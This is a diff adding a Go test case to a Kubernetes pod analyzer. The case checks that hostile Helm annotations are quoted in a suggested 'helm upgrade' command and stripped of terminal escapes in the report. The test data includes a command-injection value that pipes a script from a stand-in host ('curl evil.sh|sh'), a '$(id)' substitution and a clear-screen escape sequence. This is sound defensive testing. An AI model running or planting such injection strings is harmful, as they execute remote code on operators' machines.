@@ -65,6 +65,39 @@ func TestPodAnalyzer(t *testing.T) {
 			},
 		},
 		{
+			// A Helm annotation is free text anyone who can edit the object
+			// writes: the suggested `helm upgrade` quotes it, and the text
+			// report prints no escape sequence from it.
+			name: "hostile Helm release annotation",
+			setup: func(t *testing.T, e *testEnv) {
+				d := deploymentObj("oomhelm", 1, map[string]string{simLabel: "OOMKilled"},
+					podSpec(withMemoryLimit(ctr("app", "busybox"), "64Mi")))
+				d.Annotations = map[string]string{
+					helmReleaseNameAnnotation:      "todo; curl evil.sh|sh \x1b[2J",
+					helmReleaseNamespaceAnnotation: "$(id)",
+				}
+				e.createDeployment(t, d)
+			},
+			rule: RulePodOOMKilled, object: "oomhelm-", severity: Critical,
+			want:    []string{"OOMKilled"},
+			wantFix: `helm upgrade 'todo; curl evil.sh|sh [2J' <chart> -n '$(id)' --reuse-values`,
+			check: func(t *testing.T, e *testEnv, f Finding, r *Report) {
+				var b strings.Builder
+				if err := WriteText(&b, r, TextOptions{Color: true}); err != nil {
+					t.Fatal(err)
+				}
+				for _, line := range strings.Split(b.String(), "\n") {
+					// Our colours stay; the annotation's clear-screen goes.
+					if strings.Contains(line, "evil.sh") && strings.Contains(line, "\x1b[2J") {
+						t.Errorf("the text report passes the annotation's escape sequence: %q", line)
+					}
+				}
+				if !strings.Contains(b.String(), "\x1b[31m") {
+					t.Errorf("the report lost its own colours:\n%s", b.String())
+				}
+			},
+		},
+		{
 			name: "ImagePullBackOff names the image",
 			setup: func(t *testing.T, e *testEnv) {
 				e.createPod(t, "pull", map[string]string{simLabel: "ImagePullBackOff"}, podSpec(ctr("app", "registry.example.com/team/app:v9-missing")))
